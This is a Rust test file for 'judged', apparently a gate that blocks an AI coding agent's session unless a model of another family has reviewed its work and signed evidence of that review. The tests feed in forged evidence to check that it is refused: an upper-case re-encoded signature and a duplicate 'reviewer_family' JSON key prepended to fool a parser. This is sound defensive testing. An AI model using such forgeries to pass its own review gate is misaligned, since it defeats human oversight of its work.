    let (live, daemon, _evidence) = Live::verified_in_daemon_mode("cross-family-ok");
    let unknown = hook_as(&daemon, &live.project, "a-claude-session");
    assert_eq!(unknown["decision"], "block", "{unknown}");
    let said = unknown["message"].as_str().unwrap();
    assert!(said.contains("A review was verified in this project of the work of `claude-sonnet-4.6`, and judged does not know this session's model"), "{said}");

    let other = "5d1c7a8e-0000-4000-8000-00000000000b";
    judged_tests::claude_session_by(
        &live.tmp.path().join("claude/projects"),
        "-project",
        other,
        &live.project,
        "gpt-5.4",
    );
    let answer = hook_as(&daemon, &live.project, other);
    assert_eq!(answer["decision"], "block", "{answer}");
    let said = answer["message"].as_str().unwrap();
    assert!(
        said.contains("of the work of `claude-sonnet-4.6`, of another model family than this session's agent"),
        "{said}"
    );
    assert!(!said.contains("gpt-5.4"), "the asking session's own model is not repeated: {said}");
    assert!(said.contains("Run the round (marker, challenge, review, verify) in this session."), "{said}");

    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the reviewed session");
}
/// Issue 31: an offline check refuses what the rules refuse. Signed same-family evidence
/// (`verify` exit 10, `status: rejected`) is refused by `validate --public-key` as daemon
/// mode refuses it: exit 2, in the same words, never 0.
#[test]
fn signed_rejected_evidence_is_refused_offline_as_in_daemon_mode() {
    let scenario = Scenario::run("same-family");
    let live = &scenario.live;
    let evidence = &scenario.verified(Mode::Daemon).evidence;
    let key = judged_key(&live.home, &[]).trim().to_owned();
    let daemon = live.validate(Mode::Daemon, evidence);
    let daemon = daemon.expect_code(2, "daemon mode refuses rejected evidence").error();
    let offline = live.judge(Mode::Daemon, &["validate", "--evidence", p(evidence), "--public-key", &key]);
    let offline = offline.expect_code(2, "offline refuses it too").error();
    assert_eq!(offline["error"], daemon["error"], "in the same words");
    assert!(offline["error"].as_str().unwrap().contains("evidence is not verified"), "{offline}");
}

/// Issue 31: one set of fields has one valid witness per key: a signature in upper-case
/// hex is refused offline and by the daemon, saying the witness is not one judged writes.
#[test]
fn a_witness_in_another_encoding_is_refused() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let key = judged_key(&live.home, &[]).trim().to_owned();
    let mut evidence = scenario.evidence(Mode::Daemon);
    let witness = evidence["witness"].as_str().unwrap().to_owned();
    let (head, signature) = witness.rsplit_once(':').unwrap();
    evidence.insert("witness".into(), format!("{head}:{}", signature.to_uppercase()).into());
    let upper = live.out("upper.json");
    write_json(&upper, &evidence);
    let offline = live.judge(Mode::Daemon, &["validate", "--evidence", p(&upper), "--public-key", &key]);
    let said = offline.expect_code(2, "offline").error()["error"].as_str().unwrap().to_owned();
    assert!(said.contains("is not one judged writes (ed25519:<key id>:<signature>"), "{said}");
    live.validate(Mode::Daemon, &upper).expect_code(2, "daemon mode");
}

/// Issue 31: an artifact with a key twice is refused wherever it is read, naming the key:
/// a parser that keeps the first value would see a same-family review behind a signature
/// that checks over the last.
#[test]
fn an_artifact_with_a_duplicate_key_is_refused_naming_it() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let key = judged_key(&live.home, &[]).trim().to_owned();
    let evidence = scenario.verified(Mode::Daemon).evidence.clone();
    let text = fs::read_to_string(&evidence).unwrap();
    let prepended = text.replacen('{', r#"{"reviewer_model": "gpt-5.4", "reviewer_family": "openai","#, 1);
    let twice = live.out("twice.json");
    fs::write(&twice, prepended).unwrap();
    for (what, run) in [
        ("offline", live.judge(Mode::Daemon, &["validate", "--evidence", p(&twice), "--public-key", &key])),
        ("daemon", live.validate(Mode::Daemon, &twice)),
        ("direct", live.validate(Mode::Direct, &twice)),
    ] {
        let said = run.expect_code(2, what).error()["error"].as_str().unwrap().to_owned();
        assert!(said.contains("duplicate key `reviewer_family` in JSON artifact"), "{what}: {said}");
    }
    // On the wire too: the daemon is asked with the same text, not a re-serialized copy.
    let args = format!(r#"{{"kind": "evidence", "artifact": {}, "files": {{}}}}"#, fs::read_to_string(&twice).unwrap());
    let said = raw_call(&live.home.join("judged.sock"), "validate", &args);
    assert!(said.contains("duplicate key `reviewer_family`"), "{said}");
}

/// One request over the socket as its text is written (a client's typed request could not
/// hold a key twice), and the response's text.
fn raw_call(socket: &Path, op: &str, args: &str) -> String {
    use std::io::Read;
    let body = format!(r#"{{"v": 2, "id": 1, "op": "{op}", "args": {args}}}"#);
    let mut stream = std::os::unix::net::UnixStream::connect(socket).unwrap();
    stream.write_all(&(body.len() as u32).to_be_bytes()).unwrap();
    stream.write_all(body.as_bytes()).unwrap();
    let mut header = [0u8; 4];
    stream.read_exact(&mut header).unwrap();
    let mut answer = vec![0u8; u32::from_be_bytes(header) as usize];
    stream.read_exact(&mut answer).unwrap();
    String::from_utf8(answer).unwrap()
}

/// Issue 31: the daemon reads no file a caller names on its behalf. Asked to validate
/// evidence without the response file sent along, it does not read the path the evidence
/// names (with its own rights, wherever that is): it says the client is to send it.
#[test]
fn the_daemon_does_not_read_a_response_file_the_client_did_not_send() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let evidence = fs::read_to_string(&scenario.verified(Mode::Daemon).evidence).unwrap();
    let args = format!(r#"{{"kind": "evidence", "artifact": {evidence}, "files": {{}}}}"#);
    let said = raw_call(&live.home.join("judged.sock"), "validate", &args);
    assert!(said.contains(r#""error""#), "{said}");
    assert!(said.contains("was not sent with the request") && said.contains("send its bytes in `files`"), "{said}");
    live.validate(Mode::Daemon, &scenario.verified(Mode::Daemon).evidence).expect_code(0, "judge-evidence sends it");
}

/// A prune never takes the bytes under evidence the gate would still allow on: with a
/// cutoff of now (`0d`) the reviewed session is kept, the gate and `validate` still agree
/// on the evidence, and a cutoff in the future is refused.
#[test]
fn a_prune_of_now_keeps_live_evidence_and_a_future_cutoff_is_refused() {
    let (live, daemon, evidence) = Live::verified_in_daemon_mode("cross-family-ok");
    let prune = |cutoff: &str| {
        Command::new(bin("judged"))
            .args(["prune", "--json", "--older-than", cutoff])
            .env("JUDGED_HOME", &live.home)
            .env("JUDGED_LOG", "warn")
            .output()
            .unwrap()
    };
    let future = prune("2100-01-01T00:00:00Z");
    assert!(!future.status.success());
    let said = String::from_utf8_lossy(&future.stderr);
    assert!(said.contains("--older-than 2100-01-01T00:00:00") && said.contains("is in the future"), "{said}");
    let now = prune("0d");
    assert!(now.status.success(), "{}", String::from_utf8_lossy(&now.stderr));
    let report: Value = serde_json::from_slice(&now.stdout).unwrap();
    assert_eq!(report["pruned"], serde_json::json!([]), "the reviewed session was pruned: {report}");
    assert_eq!(report["kept"][0]["why"], "evidence verified since the cutoff rests on this log", "{report}");
    live.validate(Mode::Daemon, &evidence).expect_code(0, "validate, after the prune");
    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the gate agrees");
}
